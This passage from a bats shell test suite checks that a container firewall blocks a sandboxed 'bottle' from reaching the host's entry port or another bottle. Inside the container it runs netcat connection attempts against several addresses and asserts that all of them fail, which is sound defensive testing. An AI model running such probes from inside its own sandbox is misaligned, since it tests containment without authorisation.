    [ "$(ctr in-reject)" -gt "$ir" ]
}

@test "the entry port cannot be used backwards from the bottle" {
    local ed eh sink_before
    ed=$(ctr entry-dnat nat)
    eh=$(rb_host_pkts $M RB-E-$M)
    sink_before=$(bottle_sink $B | grep -c .)
    rb_run '?' in_bottle $B <<EOF
for a in $SUP 10.243.0.1 192.0.2.2 $SENTRY_IP $GW_IP 127.0.0.1; do
    try "entry:\$a" nc -w 2 -z \$a $ENTRY
done
try entry-other-bottle nc -w 2 -z $SUP2 $ENTRY2
EOF
    assert_all_failed 7
    [ "$(bottle_sink $B | grep -c .)" -eq "$sink_before" ]
    [ "$(ctr entry-dnat nat)" -eq "$ed" ]
    [ "$(rb_host_pkts $M RB-E-$M)" -eq "$eh" ]
    # ... while the port works forwards, from the host, to the same listener
    rb_run nc -w 3 -z 127.0.0.1 $ENTRY
    # the listener writes its line after the handshake nc waited for
    for _ in $(seq 30); do
        [ "$(bottle_sink $B | grep -c '^tcp ')" -ge 1 ] && break
        sleep 0.1
    done
    [ "$(bottle_sink $B | grep -c '^tcp ')" -ge 1 ]
    [ "$(ctr entry-dnat nat)" -gt "$ed" ]
}

@test "after every attempt: the policy, the host's chains and the bottle's plumbing are unchanged and whole" {
    rb_run diff "$BATS_FILE_TMPDIR/state.before" <(state)
    rb_run "$RB_BIN/rb-fw-apply" --nameplate "$NP" --check
    rb_run "$RB_BIN/rb-fw-apply" --nameplate "$NP2" --check
    # nothing ever reached the host's listener, on any address ...
    [ "$(sink_lines "$SINK")" -eq 0 ]
    # ... which does log what reaches it (from the host itself), as does
    # the other bottle's
    nc -w 2 -z 127.0.0.1 $SINK_PORT
    nc -6 -w 2 -z ::1 $SINK_PORT
    echo x | nc -u -w 1 127.0.0.1 $SINK_PORT || true
    echo x | nc -6 -u -w 1 ::1 $SINK_PORT || true
    rb_run grep -c -E '^(tcp|udp) ' "$SINK"
    assert_output 4
    podman exec $B2 nc -w 2 -z 127.0.0.1 8888
    rb_run '?' bottle_sink $B2
    assert_output --partial "tcp 127.0.0.1 -> 127.0.0.1"
}
